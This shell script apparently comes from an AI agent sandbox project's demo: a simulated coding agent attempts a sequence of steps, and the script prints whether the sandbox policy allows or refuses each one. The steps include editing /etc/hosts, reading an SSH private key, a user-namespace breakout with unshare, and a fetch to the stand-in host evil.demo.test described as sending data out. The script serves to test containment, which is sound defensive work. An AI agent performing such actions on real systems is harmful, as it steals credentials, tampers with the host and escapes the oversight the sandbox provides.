#!/bin/sh
# An "agent" for the demo: it tries what coding agents do, well-behaved and not. Runs inside
# `agentsbx sandbox` under contrib/examples/demo-policy.json (the built-in `agent` profile with
# a 5-second wall clock and egress filtered to registry.demo.test, a fake package registry that
# contrib/demo.sh serves). Each step prints what it tried and what happened.
say() { printf '[agent] %s\n' "$*"; }
try() { out=$("$@" 2>&1) && say "    allowed: $out" || say "    refused: $out"; }

say "1. write my result into the workspace"
try sh -c 'echo "42" > /workspace/result.txt && echo "wrote /workspace/result.txt ($(cat /workspace/result.txt))"'

say "2. edit a system file (/etc/hosts)"
try sh -c 'echo "10.0.0.1 evil" >> /etc/hosts && echo "appended to /etc/hosts"'

say "3. read an SSH key from a home directory"
try sh -c 'cat /home/agentsbx-demo/.ssh/id_ed25519'

say "4. run a binary I downloaded into the workspace"
try sh -c 'cp /bin/true /workspace/tool && /workspace/tool && echo "ran /workspace/tool"'

say "5. break out with a user namespace"
try unshare -U -r id

# "pip download"-style: fetch a file over HTTP (python3's urllib, as pip would)
fetch() {
	python3 - "$1" "$2" <<'PY'
import sys, urllib.request
url, dest = sys.argv[1], sys.argv[2]
try:
    with urllib.request.urlopen(url, timeout=3) as r, open(dest, "wb") as f:
        data = r.read()
        f.write(data)
    print(f"downloaded {url} ({len(data)} bytes): {data.decode(errors='replace').strip()}")
except Exception as e:  # what the agent sees, and what it means here
    reason = getattr(e, "reason", e)
    if isinstance(reason, OSError) and reason.errno == -3:  # EAI_AGAIN: the resolver said REFUSED
        sys.exit(f"{url}: the sandbox's DNS refused the name (not in the policy's allowedDomains): {reason}")
    sys.exit(f"{url}: {reason}")
PY
}

say "6. download a package from the allowed registry (registry.demo.test)"
try fetch http://registry.demo.test/simple/pkg.tar.gz /workspace/pkg.tar.gz

say "7. send data to a host the policy does not list (evil.demo.test)"
try fetch http://evil.demo.test/ /tmp/evil.out

say "8. get stuck in a retry loop (the policy's wall clock is 5 s)"
while :; do :; done
